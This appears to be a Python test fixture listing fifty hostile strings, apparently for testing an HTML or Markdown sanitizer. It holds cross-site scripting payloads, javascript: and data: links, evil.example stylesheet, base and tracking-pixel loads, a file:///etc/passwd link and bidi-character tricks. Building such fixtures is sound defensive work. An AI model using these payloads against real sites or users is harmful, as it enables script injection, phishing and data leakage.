"""Fifty texts that would run something, lead somewhere or look like something else, were they taken for more than text.

Each that runs sets `window.pwned`, or opens a dialog.
"""

from __future__ import annotations

RLO, LRI, PDI, ZWSP, BOM = "\u202e", "\u2066", "\u2069", "\u200b", "\ufeff"

HOSTILE = [
    # script elements
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<SCRIPT SRC=data:text/javascript,window.pwned=1></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg/onload=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<!--><script>window.pwned=1</script>-->",
    "</textarea><script>window.pwned=1</script>",
    "</pre></code></div><script>window.pwned=1</script>",
    # event handlers
    "<img src=x onerror=window.pwned=1>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<div style=animation-name:blink onanimationstart=window.pwned=1>x</div>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    # elements that load or send
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=data:text/html,<script>parent.pwned=1</script>>",
    "<form action=javascript:window.pwned=1><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; *{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    # links
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    f"[click](java{ZWSP}script:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1) [x](file:///etc/passwd) [y](blob:x)",
    "![x](javascript:window.pwned=1) ![y](https://evil.example/pixel.png)",
    "<javascript:window.pwned=1> <https://ok.example/\"onmouseover=window.pwned=1>",
    "[a](https://user:secret@evil.example/) [https://bank.example](https://evil.example/)",
    "https://ok.example/'onmouseover='window.pwned=1 and [b](https://ok.example \"onerror=window.pwned=1\")",
    # broken Markdown
    "```\n<script>window.pwned=1</script>",
    "```<img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```",
    "**[`<b onclick=window.pwned=1>](javascript:window.pwned=1)**`",
    "> > > > > > > > > > [[[[](((( `` ` ``` ** __ ~~ *_*_*_ | - |\n|-|-|\n"
    "| <img src=x onerror=window.pwned=1> |",
    "| a | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |",
    "- <img src=x onerror=window.pwned=1>\n  1. </li></ul>"
    "<script>window.pwned=1</script>\n# </h1><svg onload=window.pwned=1>",
    # letters that hide or turn
    f"the file is {RLO}gpj.exe and {LRI}<script>window.pwned=1</script>{PDI}",
    f"<{ZWSP}script>window.pwned=1<{ZWSP}/script>{BOM}\u00ad\U000e0041\U000e0042",
    "\x00\x01\x07\x1b[31mred\x1b]0;title\x07\x7f\x9b2J "
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "__proto__ constructor toString \u2028\u2029 \ufffe "
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
]  # fmt: skip
assert len(HOSTILE) == 50
